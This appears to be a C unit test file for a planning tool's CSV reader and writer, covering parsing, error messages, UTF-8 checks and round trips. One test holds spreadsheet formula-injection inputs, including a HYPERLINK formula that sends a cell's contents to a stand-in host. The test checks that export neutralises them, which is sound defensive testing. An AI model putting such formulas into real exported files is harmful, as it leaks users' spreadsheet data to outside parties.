/* test_csv.c — CSV import and export (model/plan_csv.c).
 *
 * Each test builds a small plan in memory (people, a review with three
 * recommendations, two themes, two periods, two measures), reads CSV text into
 * it and checks the objects, or the exact "line N, column F: problem" of a
 * refusal.  The round trips write a kind, read it into a fresh plan and write
 * again: the two texts must be identical. */
#include "lib/text.h"
#include "model/plan_csv.h"
#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>

/* Fills a zeroed plan with what the CSV rows refer to. */
static void make_plan(struct plan *p)
{
    p->org.name = strdup("Test Council");
    p->org.scale = scale_find("confidence3");
    size_t k = plan_add_person(p, "ceo");
    plan_set_str(&p->people[k].name, "Chief Executive");
    k = plan_add_person(p, "leader");
    plan_set_str(&p->people[k].name, "Leader");
    size_t rv = plan_add_review(p, "review");
    plan_set_str(&p->reviews[rv].title, "Independent review");
    const char *recs[] = {"R1", "R2", "R10"};
    for (size_t i = 0; i < 3; i++) {
        k = plan_add_rec(p, recs[i]);
        p->recs[k].review = (long)rv;
        plan_set_str(&p->recs[k].text, "Do better");
    }
    k = plan_add_theme(p, "T1");
    plan_set_str(&p->themes[k].title, "Governance");
    p->themes[k].lead = 0;
    k = plan_add_theme(p, "T2");
    plan_set_str(&p->themes[k].title, "Finance");
    const char *months[] = {"2015-03", "2015-04"};
    for (size_t i = 0; i < 2; i++) {
        int m;
        cr_assert(month_parse(months[i], &m));
        k = plan_add_period(p, m);
        /* at most one period is open (model/limits.h) */
        plan_set_str(&p->periods[k].status, i == 0 ? "closed" : "open");
    }
    k = plan_add_measure(p, "K1");
    plan_set_str(&p->measures[k].title, "Sickness absence");
    k = plan_add_measure(p, "K2");
    plan_set_str(&p->measures[k].title, "Vacancy rate");
}

/* The action with ref, which must exist. */
static struct p_action *action(struct plan *p, const char *ref)
{
    long ix = plan_find(&p->m_actions, ref);
    cr_assert_geq(ix, 0, "no action %s", ref);
    return &p->actions[ix];
}

static day_t day(const char *s)
{
    day_t d;
    cr_assert(date_parse(s, &d), "bad date in test: %s", s);
    return d;
}

/* Reads csv into a fresh plan and asserts success. */
static void read_ok(struct plan *p, const char *csv)
{
    char err[600] = "";
    int rc = plan_read_csv(p, csv, strlen(csv), err, sizeof err);
    cr_assert_eq(rc, 0, "refused: %s", err);
}

/* Reads csv into a fresh plan and asserts the exact refusal. */
static void refused(const char *csv, size_t len, const char *want)
{
    struct plan p = {0};
    make_plan(&p);
    char err[600] = "";
    int rc = plan_read_csv(&p, csv, len, err, sizeof err);
    cr_assert_eq(rc, -1, "accepted, expected: %s", want);
    cr_assert_str_eq(err, want);
    plan_free(&p);
}

#define REFUSED(csv, want) refused((csv), sizeof(csv) - 1, (want))

#define AHEAD "ref,theme,title,start,finish\r\n"

/* ---- reading ---------------------------------------------------------------------------- */

Test(csv_read, quoted_fields_with_commas_quotes_and_newlines)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "ref,theme,title,description,start,finish,answers,closure_criteria\r\n"
                "A1,T1,\"Agree the plan, with cabinet\",\"She said \"\"yes\"\"\r\n"
                "then, later\nno\",2015-01-12,2015-03-23,R1;R10,\r\n"
                "A2,T2,Plain title,,2015-02-01,2015-02-28,,\"Done when \"\"signed\"\"\"\r\n");
    struct p_action *a = action(&p, "A1");
    cr_assert_str_eq(a->title, "Agree the plan, with cabinet");
    cr_assert_str_eq(a->description, "She said \"yes\"\r\nthen, later\nno");
    cr_assert_eq(a->theme, plan_find(&p.m_themes, "T1"));
    cr_assert_eq(a->start, day("2015-01-12"));
    cr_assert_eq(a->finish, day("2015-03-23"));
    cr_assert_eq(a->baseline_finish, a->finish, "absent baseline_finish is the plan");
    cr_assert_eq(a->status, ST_NOT_STARTED);
    cr_assert_eq(a->completed_on, DAY_NONE);
    cr_assert_eq(a->owner, -1);
    cr_assert_eq(a->answers.n, 2);
    cr_assert_eq(a->answers.v[0], plan_find(&p.m_recs, "R1"));
    cr_assert_eq(a->answers.v[1], plan_find(&p.m_recs, "R10"));
    cr_assert_str_eq(a->closure_criteria, "");
    struct p_action *b = action(&p, "A2");
    cr_assert_str_eq(b->description, "");
    cr_assert_str_eq(b->closure_criteria, "Done when \"signed\"");
    cr_assert_eq(b->answers.n, 0);
    char err[600];
    cr_assert_eq(plan_check(&p, err, sizeof err), 0, "%s", err);
    plan_free(&p);
}

Test(csv_read, depends_on_may_point_forward)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "ref,theme,title,start,finish,depends_on\n"
                "A1,T1,First,2015-01-01,2015-02-01,A2; A3\n"
                "A2,T1,Second,2015-01-01,2015-01-20,\n"
                "A3,T1,Third,2015-01-01,2015-01-10,A2\n");
    struct p_action *a = action(&p, "A1");
    cr_assert_eq(a->depends_on.n, 2);
    cr_assert_eq(a->depends_on.v[0], plan_find(&p.m_actions, "A2"));
    cr_assert_eq(a->depends_on.v[1], plan_find(&p.m_actions, "A3"));
    cr_assert_eq(action(&p, "A3")->depends_on.v[0], plan_find(&p.m_actions, "A2"));
    plan_free(&p);
}

Test(csv_read, columns_in_any_order_and_all_of_them)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "closure_criteria,depends_on,answers,completed_on,status,baseline_finish,finish,"
                "start,panel_lead,member,owner,description,title,theme,ref\r\n"
                "Signed off,,R2,2015-03-20,complete,,2015-03-23,2015-01-12,leader,leader,ceo,"
                "Desc,Title,T2,X.1\r\n");
    struct p_action *a = action(&p, "X.1");
    cr_assert_eq(a->theme, plan_find(&p.m_themes, "T2"));
    cr_assert_eq(a->owner, plan_find(&p.m_people, "ceo"));
    cr_assert_eq(a->member, plan_find(&p.m_people, "leader"));
    cr_assert_eq(a->status, ST_COMPLETE);
    cr_assert_eq(a->completed_on, day("2015-03-20"));
    cr_assert_eq(a->baseline_finish, DAY_NONE, "an empty cell is null, as in JSON");
    cr_assert_str_eq(a->closure_criteria, "Signed off");
    plan_free(&p);
}

Test(csv_read, a_row_replaces_the_whole_action)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "ref,theme,title,description,owner,start,finish,status\n"
                "A1,T1,Old,Old description,ceo,2015-01-01,2015-02-01,in_progress\n");
    read_ok(&p, AHEAD "A1,T2,New,2015-01-05,2015-02-05\r\n");
    struct p_action *a = action(&p, "A1");
    cr_assert_eq(p.n_actions, 1);
    cr_assert_str_eq(a->title, "New");
    cr_assert_str_eq(a->description, "");
    cr_assert_eq(a->owner, -1);
    cr_assert_eq(a->status, ST_NOT_STARTED);
    cr_assert_eq(a->theme, plan_find(&p.m_themes, "T2"));
    plan_free(&p);
}

Test(csv_read, updates_and_values)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, AHEAD "A1,T1,One,2015-01-01,2015-06-30\r\n");
    read_ok(&p, "action,period,percent,confidence,narrative,author,forecast_finish\r\n"
                "A1,2015-03,20,medium,\"**Going**, well\",ceo,2015-07-31\r\n"
                "A1,2015-04,0,,,,\r\n");
    cr_assert_eq(p.n_updates, 2);
    struct p_update *u = &p.updates[plan_find_update(&p, 0, 0)];
    cr_assert_eq(u->percent, 20);
    cr_assert_eq(u->confidence, 1);
    cr_assert_str_eq(u->state, "draft");
    cr_assert_eq(u->status, ST_NOT_STARTED);
    cr_assert_str_eq(u->narrative, "**Going**, well");
    cr_assert_eq(u->forecast_finish, day("2015-07-31"));
    cr_assert_eq(u->author, plan_find(&p.m_people, "ceo"));
    struct p_update *v = &p.updates[plan_find_update(&p, 0, 1)];
    cr_assert_eq(v->confidence, -1);
    cr_assert_eq(v->author, -1);
    read_ok(&p, "value,date,measure\n26.1,2015-02-28,K1\n-1.5e2,2015-03-31,K1\n27,2015-02-28,K2\n");
    cr_assert_eq(p.n_values, 3);
    cr_assert_float_eq(p.values[plan_find_value(&p, 0, day("2015-02-28"))].value, 26.1, 1e-12);
    cr_assert_float_eq(p.values[plan_find_value(&p, 0, day("2015-03-31"))].value, -150, 1e-12);
    cr_assert_float_eq(p.values[plan_find_value(&p, 1, day("2015-02-28"))].value, 27, 1e-12);
    plan_free(&p);
}

Test(csv_read, header_only_bom_and_blank_lines)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "\xEF\xBB\xBF"
                "measure,date,value\r\n");
    cr_assert_eq(p.n_values, 0);
    read_ok(&p, "\r\nmeasure,date,value\r\n\r\nK1,2015-01-31,1\r\n\r\n");
    cr_assert_eq(p.n_values, 1);
    plan_free(&p);
}

/* ---- refusals --------------------------------------------------------------------------- */

Test(csv_refuse, unknown_column)
{
    REFUSED("ref,theme,title,start,finish,colour\r\n",
            "line 1, column colour: unknown column for actions (known: ref, theme, title, "
            "description, owner, member, panel_lead, start, finish, baseline_finish, status, "
            "completed_on, answers, depends_on, closure_criteria)");
}

Test(csv_refuse, column_twice)
{
    REFUSED("ref,theme,title,start,finish,title\r\n",
            "line 1, column title: appears twice in the header");
}

Test(csv_refuse, header_of_no_kind)
{
    REFUSED("ref,title,start,finish\r\nA1,x,2015-01-01,2015-01-02\r\n",
            "line 1: header matches none of actions, updates, measure_values (actions need "
            "ref, theme, title, start, finish; updates need action, period; measure_values "
            "need measure, date, value)");
}

Test(csv_refuse, empty_input)
{
    REFUSED("", "line 1: no header row: the first line names the columns of actions, updates "
                "or measure_values");
}

Test(csv_refuse, bad_date)
{
    REFUSED(AHEAD "A1,T1,One,2015-02-30,2015-03-01\r\n",
            "line 2, column start: must be a date YYYY-MM-DD");
    REFUSED(AHEAD "A1,T1,One,2015-02-01,\r\n",
            "line 2, column finish: is required (a date, YYYY-MM-DD)");
}

Test(csv_refuse, unknown_theme_ref)
{
    REFUSED(AHEAD "A1,T1,One,2015-01-01,2015-02-01\r\nA2,T9,Two,2015-01-01,2015-02-01\r\n",
            "line 3, column theme: no theme with ref \"T9\"");
}

Test(csv_refuse, unknown_refs_in_lists)
{
    REFUSED("ref,theme,title,start,finish,answers\n"
            "A1,T1,One,2015-01-01,2015-02-01,R1;R3\n",
            "line 2, column answers: no recommendation with ref \"R3\"");
    REFUSED("ref,theme,title,start,finish,depends_on\n"
            "A1,T1,One,2015-01-01,2015-02-01,A1;;A2\n",
            "line 2, column depends_on: empty item in the list of action refs (separate refs "
            "with ';')");
}

Test(csv_refuse, empty_required_title)
{
    REFUSED(AHEAD "A1,T1,,2015-01-01,2015-02-01\r\n", "line 2, column title: must not be empty");
}

Test(csv_refuse, bad_status)
{
    REFUSED("ref,theme,title,start,finish,status\n"
            "A1,T1,One,2015-01-01,2015-02-01,done\n",
            "line 2, column status: \"done\" is not one of: not_started, in_progress, complete, "
            "blocked, retired");
}

Test(csv_refuse, bad_ref)
{
    REFUSED(AHEAD "A 1,T1,One,2015-01-01,2015-02-01\r\n",
            "line 2, column ref: must be 1-64 letters, digits, '.', '_' or '-'");
}

Test(csv_refuse, duplicate_ref)
{
    REFUSED(AHEAD "A1,T1,One,2015-01-01,2015-02-01\r\nA1,T1,Again,2015-01-01,2015-02-01\r\n",
            "line 3, column ref: duplicate action \"A1\"");
}

Test(csv_refuse, wrong_field_count)
{
    REFUSED(AHEAD "A1,T1,One,2015-01-01,2015-02-01\r\nA2,T1,Two,2015-01-01\r\n",
            "line 3: has 4 fields but the header has 5 columns");
    REFUSED(AHEAD "A1,T1,One,2015-01-01,2015-02-01,\r\n",
            "line 2: has 6 fields but the header has 5 columns");
}

Test(csv_refuse, bad_utf8)
{
    REFUSED(AHEAD
            "A1,T1,Caf\xc3\xa9,2015-01-01,2015-02-01\r\nA2,T1,Caf\xe9,2015-01-01,2015-02-01\r\n",
            "line 3, column title: not valid UTF-8");
    REFUSED(AHEAD "A1,T1,\xed\xa0\x80,2015-01-01,2015-02-01\r\n",
            "line 2, column title: not valid UTF-8"); /* a surrogate */
    REFUSED(AHEAD "A1,T1,\xc0\xaf,2015-01-01,2015-02-01\r\n",
            "line 2, column title: not valid UTF-8"); /* overlong */
}

Test(csv_refuse, nul_byte)
{
    REFUSED(AHEAD "A1,T1,a\0b,2015-01-01,2015-02-01\r\n",
            "line 2, column title: must not contain NUL characters");
}

Test(csv_refuse, unterminated_quote)
{
    REFUSED(AHEAD "A1,T1,One,2015-01-01,2015-02-01\r\nA2,T1,\"Two\r\nand more\r\n",
            "line 3, column title: quoted field is not closed by the end of the file");
}

Test(csv_refuse, bad_quoting)
{
    REFUSED(AHEAD "A1,T1,\"One\"x,2015-01-01,2015-02-01\r\n",
            "line 2, column title: bad quoting (a quote inside an unquoted field, or text after a "
            "closing quote; write a quote inside a quoted field as \"\")");
    REFUSED(AHEAD "A1,T1,O\"ne,2015-01-01,2015-02-01\r\n",
            "line 2, column title: bad quoting (a quote inside an unquoted field, or text after a "
            "closing quote; write a quote inside a quoted field as \"\")");
}

Test(csv_refuse, lines_count_through_multiline_fields)
{
    /* the description of A1 spans lines 2-4; A2 starts on line 5 and its
     * finish on line 6, after a quoted title with a line break */
    REFUSED("ref,theme,title,description,start,finish\n"
            "A1,T1,One,\"first\n\"\"second\"\"\r\nthird\",2015-01-01,2015-02-01\n"
            "A2,T1,\"Two\nlines\",,2015-01-01,2015-02-31\n",
            "line 6, column finish: must be a date YYYY-MM-DD");
    REFUSED("ref,theme,title,description,start,finish\r"
            "A1,T1,One,\"a\rb\",2015-01-01,2015-02-01\r"
            "A2,T9,Two,,2015-01-01,2015-02-01\r",
            "line 4, column theme: no theme with ref \"T9\"");
}

Test(csv_refuse, unknown_level)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, AHEAD "A1,T1,One,2015-01-01,2015-06-30\r\n");
    char err[600];
    const char *csv = "action,period,confidence\r\nA1,2015-03,green\r\n";
    cr_assert_eq(plan_read_csv(&p, csv, strlen(csv), err, sizeof err), -1);
    cr_assert_str_eq(err, "line 2, column confidence: \"green\" is not a level of the "
                          "confidence3 scale (high, medium, low)");
    plan_free(&p);
}

Test(csv_refuse, update_fields)
{
    struct {
        const char *csv, *want;
    } cases[] = {
        {"action,period,percent\nA1,2015-03,101\n",
         "line 2, column percent: must be a whole number from 0 to 100"},
        {"action,period,percent\nA1,2015-03,-1\n",
         "line 2, column percent: must be a whole number from 0 to 100"},
        {"action,period,percent\nA1,2015-03,50.0\n",
         "line 2, column percent: must be a whole number from 0 to 100"},
        {"action,period\nA1,2015-05\n", "line 2, column period: month 2015-05 is not in periods"},
        {"action,period\nA1,2015-3\n", "line 2, column period: must be a month YYYY-MM"},
        {"action,period\n,2015-03\n", "line 2, column action: is required (an action ref)"},
        {"action,period\nA1,2015-03\nA1,2015-04\nA1,2015-03\n",
         "line 4, column period: duplicate update \"A1@2015-03\""},
        {"action,period,state\nA1,2015-03,approved\n",
         "line 2, column state: \"approved\" is not one of: draft, submitted, accepted, "
         "returned"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct plan p = {0};
        make_plan(&p);
        read_ok(&p, AHEAD "A1,T1,One,2015-01-01,2015-06-30\r\n");
        char err[600] = "";
        cr_assert_eq(plan_read_csv(&p, cases[i].csv, strlen(cases[i].csv), err, sizeof err), -1,
                     "accepted: %s", cases[i].csv);
        cr_assert_str_eq(err, cases[i].want);
        plan_free(&p);
    }
}

Test(csv_refuse, value_fields)
{
    REFUSED("measure,date,value\nK1,2015-01-31,1e999\n",
            "line 2, column value: must be a finite number");
    REFUSED("measure,date,value\nK1,2015-01-31,-1.7e308\n",
            "line 2, column value: must be a number from -1e15 to 1e15");
    REFUSED("measure,date,value\nK1,2015-01-31,12abc\n", "line 2, column value: must be a number");
    REFUSED("measure,date,value\nK1,2015-01-31,nan\n", "line 2, column value: must be a number");
    REFUSED("measure,date,value\nK1,2015-01-31,\n", "line 2, column value: is required (a number)");
    REFUSED("measure,date,value\nK9,2015-01-31,1\n",
            "line 2, column measure: no measure with ref \"K9\"");
    REFUSED("measure,date,value\nK1,2015-01-31,1\nK1,2015-01-15,2\n",
            "line 3, column date: measure K1 already has a value in that month (2015-01-31): "
            "one value a month");
    setenv("DIALTURN_TODAY", "2015-06-08", 1);
    REFUSED("measure,date,value\nK1,2015-07-01,1\n",
            "line 2, column date: A value cannot be for a month after this one (today is "
            "2015-06-08)");
    unsetenv("DIALTURN_TODAY");
    REFUSED("measure,date,value\nK1,2015-01-31,1\nK1,2015-01-31,2\n",
            "line 3, column date: duplicate measure value \"K1@2015-01-31\"");
}

/* ---- writing and round trips ------------------------------------------------------------ */

/* Writes kind from a, reads it into a fresh plan b (which already holds
 * `prelude`, the actions the rows refer to) and asserts the second writing is
 * identical.  Returns the text, which the caller frees. */
static char *round_trip(const struct plan *a, enum csv_kind kind, const char *prelude)
{
    char *text = plan_write_csv(a, kind);
    struct plan b = {0};
    make_plan(&b);
    if (prelude)
        read_ok(&b, prelude);
    read_ok(&b, text);
    char *again = plan_write_csv(&b, kind);
    cr_assert_str_eq(again, text);
    free(again);
    plan_free(&b);
    return text;
}

static const char *const tricky_actions =
    "ref,theme,title,description,owner,member,panel_lead,start,finish,baseline_finish,status,"
    "completed_on,answers,depends_on,closure_criteria\r\n"
    "A10,T2,\"Comma, \"\"quote\"\"\",\"Line one\r\nline two\nline three\",,,,2015-02-01,"
    "2015-04-30,2015-03-31,in_progress,,R10;R2;R1,A2,\r\n"
    "A2,T1, leading space,,ceo,leader,ceo,2015-01-01,2015-01-31,,complete,2015-01-30,,,"
    "Caf\xc3\xa9 \xe2\x9c\x93\r\n";

Test(csv_write, actions_spelled_as_json_and_round_trip)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, tricky_actions);
    char *text = round_trip(&p, CSV_ACTIONS, NULL);
    cr_assert_str_eq(text,
                     "ref,theme,title,description,owner,member,panel_lead,start,finish,"
                     "baseline_finish,status,completed_on,answers,depends_on,closure_criteria\r\n"
                     "A2,T1,\" leading space\",,ceo,leader,ceo,2015-01-01,2015-01-31,,complete,"
                     "2015-01-30,,,Caf\xc3\xa9 \xe2\x9c\x93\r\n"
                     "A10,T2,\"Comma, \"\"quote\"\"\",\"Line one\r\nline two\nline three\",,,,"
                     "2015-02-01,2015-04-30,2015-03-31,in_progress,,R1;R2;R10,A2,\r\n");
    free(text);
    plan_free(&p);
}

Test(csv_write, updates_round_trip)
{
    struct plan p = {0};
    make_plan(&p);
    const char *acts =
        AHEAD "A1,T1,One,2015-01-01,2015-06-30\r\nA2,T1,Two,2015-01-01,2015-06-30\r\n";
    read_ok(&p, acts);
    read_ok(&p, "action,period,state,status,percent,confidence,narrative,forecast_finish,author\n"
                "A2,2015-04,accepted,in_progress,55,low,\"- one\n- two, \"\"three\"\"\",,ceo\n"
                "A2,2015-03,submitted,blocked,50,high,,2015-09-30,\n"
                "A1,2015-03,,,,,,,\n");
    char *text = round_trip(&p, CSV_UPDATES, acts);
    cr_assert_str_eq(text,
                     "action,period,state,status,percent,confidence,narrative,forecast_finish,"
                     "author\r\n"
                     "A1,2015-03,draft,not_started,0,,,,\r\n"
                     "A2,2015-03,submitted,blocked,50,high,,2015-09-30,\r\n"
                     "A2,2015-04,accepted,in_progress,55,low,\"'- one\n- two, \"\"three\"\"\",,"
                     "ceo\r\n");
    free(text);
    plan_free(&p);
}

Test(csv_write, values_round_trip)
{
    struct plan p = {0};
    make_plan(&p);
    read_ok(&p, "measure,date,value\r\nK2,2015-01-31,27.0\r\nK1,2015-02-28,26.1\r\n"
                "K1,2015-01-31,27\r\nK2,2015-02-28,-0.125\r\nK1,2015-03-31,1.5e-20\r\n");
    char *text = round_trip(&p, CSV_MEASURE_VALUES, NULL);
    cr_assert_str_eq(text, "measure,date,value\r\n"
                           "K1,2015-01-31,27\r\n"
                           "K1,2015-02-28,26.1\r\n"
                           "K1,2015-03-31,1.5e-20\r\n"
                           "K2,2015-01-31,27\r\n"
                           "K2,2015-02-28,-0.125\r\n");
    free(text);
    plan_free(&p);
}

Test(csv_write, cells_a_spreadsheet_would_run_are_neutralised)
{
    struct plan p = {0};
    make_plan(&p);
    const char *acts =
        AHEAD "A1,T1,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\",2015-01-01,"
              "2015-06-30\r\nA2,T1,+1,2015-01-01,2015-06-30\r\n"
              "A3,T1,@SUM(A1),2015-01-01,2015-06-30\r\n"
              "A4,T1,\"\tTab\",2015-01-01,2015-06-30\r\n"
              "A5,T1,\"\rReturn\",2015-01-01,2015-06-30\r\n"
              "A6,T1,'plain quote,2015-01-01,2015-06-30\r\n";
    read_ok(&p, acts);
    char *text = round_trip(&p, CSV_ACTIONS, NULL);
    /* each such text cell starts with a quote, which a spreadsheet shows as text */
    cr_assert(strstr(text, "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\""), "%s", text);
    cr_assert(strstr(text, ",'+1,"), "%s", text);
    cr_assert(strstr(text, ",'@SUM(A1),"), "%s", text);
    cr_assert(strstr(text, ",'\tTab,"), "%s", text);
    cr_assert(strstr(text, "\"'\rReturn\""), "%s", text);
    cr_assert(strstr(text, ",'plain quote,"), "a quote before ordinary text stays as it is");
    free(text);
    /* and reading undoes it: the plan holds the text as it was written */
    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A1")].title,
                     "=HYPERLINK(\"http://example.invalid/?x=\"&A1)");
    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A2")].title, "+1");
    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A6")].title, "'plain quote");
    /* a negative number is a number, not a formula */
    read_ok(&p, "measure,date,value\r\nK1,2015-01-31,-3.5\r\n");
    text = plan_write_csv(&p, CSV_MEASURE_VALUES);
    cr_assert_str_eq(text, "measure,date,value\r\nK1,2015-01-31,-3.5\r\n");
    free(text);
    plan_free(&p);
}

Test(csv_write, empty_plan_is_just_the_header)
{
    struct plan p = {0};
    make_plan(&p);
    char *text = plan_write_csv(&p, CSV_UPDATES);
    cr_assert_str_eq(text, "action,period,state,status,percent,confidence,narrative,"
                           "forecast_finish,author\r\n");
    free(text);
    plan_free(&p);
}

Test(csv_kind, parse)
{
    cr_assert_eq(csv_kind_parse("actions"), CSV_ACTIONS);
    cr_assert_eq(csv_kind_parse("updates"), CSV_UPDATES);
    cr_assert_eq(csv_kind_parse("measure_values"), CSV_MEASURE_VALUES);
    cr_assert_eq((int)csv_kind_parse("milestones"), -1);
}

Test(csv_read, a_long_column_name_is_cut_between_characters)
{
    /* "line 1, column " + 200 x "é" (400 bytes) + ": ...": cut at 600 bytes,
     * it ended inside a character (fuzz/crashes/plan_csv) */
    char csv[1024] = "ref,theme,title,start,finish,";
    size_t len = strlen(csv);
    for (int i = 0; i < 200; i++, len += 2)
        memcpy(csv + len, "\xC3\xA9", 2);
    memcpy(csv + len, "\r\n", 3);
    struct plan p = {0};
    make_plan(&p);
    char err[600] = "";
    cr_assert_eq(plan_read_csv(&p, csv, strlen(csv), err, sizeof err), -1);
    size_t n = strlen(err);
    cr_assert(n > 200 && strstr(err, "line 1, column "), "%s", err);
    cr_assert(utf8_valid(err, n), "the message is not valid UTF-8: %s", err);
    plan_free(&p);
}
